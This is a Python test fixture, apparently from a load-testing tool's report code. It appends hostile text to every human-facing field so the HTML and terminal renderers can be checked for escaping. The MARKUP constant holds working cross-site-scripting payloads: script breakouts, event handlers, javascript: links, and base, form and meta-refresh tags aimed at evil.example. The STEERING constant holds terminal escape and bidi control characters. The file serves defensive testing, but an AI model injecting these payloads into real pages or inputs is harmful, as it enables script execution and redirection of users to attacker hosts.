"""Names that a hostile server, plan or file might have: put into every text of a report that a run fills."""

from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

from loadrig.report.model import Report

PWNED = "window.__pwned = 1"

MARKUP = (
    f"</script><script>{PWNED}</script>"
    f"</style><style>main {{ display: none }}</style></title></textarea>"
    f'<img src=x onerror="{PWNED}">"><svg onload={PWNED.replace(" ", "")}>'
    f"' onmouseover='{PWNED}' x='\" autofocus onfocus=\"{PWNED}\""
    f'<a href="javascript:{PWNED}">x</a>javascript:{PWNED}'
    f'<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>'
    "<base href=//evil.example><form action=//evil.example><button>"
    '<meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>'
    "]]>--><!--<script>&lt;script&gt;&#x3c;"
)
STEERING = "\x00\x1b[2J\x1b]0;title\x07\x9b31m\r\x08\x7f\u202e\u2066\u200f\u2028\u2029\ufeff"
CONTROLS = frozenset(letter for letter in STEERING if not letter.isprintable()) - {"\ufeff"}
"""Letters of these that no text on a terminal may hold; U+FEFF has no width and does nothing there."""

HOSTILE = MARKUP + STEERING

STRUCTURE = {
    "align", "colour", "dash", "group", "id", "kind", "limits", "size", "spans", "standing", "state", "tone",
    "unit", "verdict", "view",
}  # fmt: skip
"""Fields that only our own code fills, with words that the page's script or style knows."""

TEXTS = {
    "about", "cause", "component", "detail", "effect", "headline", "label", "last_lines", "mend", "name",
    "note", "notes", "plan_name", "sentence", "text", "title", "warnings", "why",
}  # fmt: skip
"""Keys of a result whose values are text for a person."""


def hostile(report: Report) -> Report:
    """Return the report with hostile text at the end of every text that does not come from our own code."""
    changed: Report = _changed(report)
    # Keys of a mapping are structure in figures; here they are names.
    return replace(changed, facts={f"{name}{HOSTILE}": value for name, value in changed.facts.items()})


def _changed(value: Any, name: str = "") -> Any:
    if name in STRUCTURE:
        return value
    if isinstance(value, str):
        return value + HOSTILE
    if is_dataclass(value) and not isinstance(value, type):
        return replace(
            value, **{each.name: _changed(getattr(value, each.name), each.name) for each in fields(value)}
        )
    if isinstance(value, Mapping):
        return {key: _changed(each, str(key)) for key, each in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(_changed(each, name) for each in value)
    return value


def hostile_result(value: Any, key: str = "") -> Any:
    """Return a result.json with hostile text wherever it has text for a person."""
    if isinstance(value, str):
        return value + HOSTILE if key in TEXTS else value
    if isinstance(value, dict):
        return {name: hostile_result(each, name) for name, each in value.items()}
    if isinstance(value, list):
        return [hostile_result(each, key) for each in value]
    return value
